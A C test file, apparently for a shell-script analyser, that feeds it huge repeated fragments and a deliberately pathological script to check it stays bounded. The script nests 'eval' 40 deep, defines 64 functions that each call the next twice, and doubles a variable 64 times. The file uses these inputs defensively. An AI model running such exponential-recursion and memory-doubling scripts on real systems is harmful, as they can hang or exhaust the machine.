TEST_TIMEOUT(pathological, 60)
{
	static const char *const units[] = {
		"\n",	 "(",	       "{",  "$(",    "`",	 "${",
		"\"",	 "'",	       "<",  "<<A\n", "a=(",	 "if ",
		"[[ ",	 "{a,b}",      "| ", "a b ",  "((",	 "f(){ ",
		"a<b\n", "case x in ", "\\", "a",     "don't (", "A=$A$A\n",
	};
	static const char end[] = "\n\ncat /etc/last\n";

	for (size_t i = 0; i < sizeof(units) / sizeof(*units); i++) {
		struct buffer text = { 0 };
		struct translation *translation;

		while (text.length < 200000)
			buffer_adds(&text, units[i]);
		buffer_adds(&text, end);
		translation = read_text("sh", buffer_text(&text), asked);
		/* An open quote swallows the rest, as in a shell. */
		if (*units[i] != '"' && *units[i] != '\'' && *units[i] != '\\')
			EXPECT_NOT_NULL(find(translation, "/etc/last"))
			{
				TH_LOG("%s", units[i]);
			}
		translation_free(translation);
		buffer_done(&text);
	}
}

/* Code in code in code, functions that call themselves, doubling variables. */
TEST(bounded)
{
	struct buffer text = { 0 };
	struct translation *translation;
	bool found = false;

	for (int i = 0; i < 40; i++)
		buffer_adds(&text, "eval ");
	buffer_adds(&text, "cat /etc/x\n");
	for (int i = 0; i < 64; i++)
		buffer_printf(&text, "f%d() { f%d; f%d; }\n", i, i + 1, i + 1);
	buffer_adds(&text, "f0\nA=aaaaaaaa\n");
	for (int i = 0; i < 64; i++)
		buffer_adds(&text, "A=$A$A\n");
	buffer_adds(&text, "cat /etc/$A\n");
	translation = read_text("sh", buffer_text(&text), asked);
	for (size_t i = 0; i < translation->nr_gaps; i++)
		found = found ||
			!strcmp(translation->gaps[i].reason, "too-complex");
	EXPECT_TRUE(found);
	translation_free(translation);
	buffer_done(&text);
}
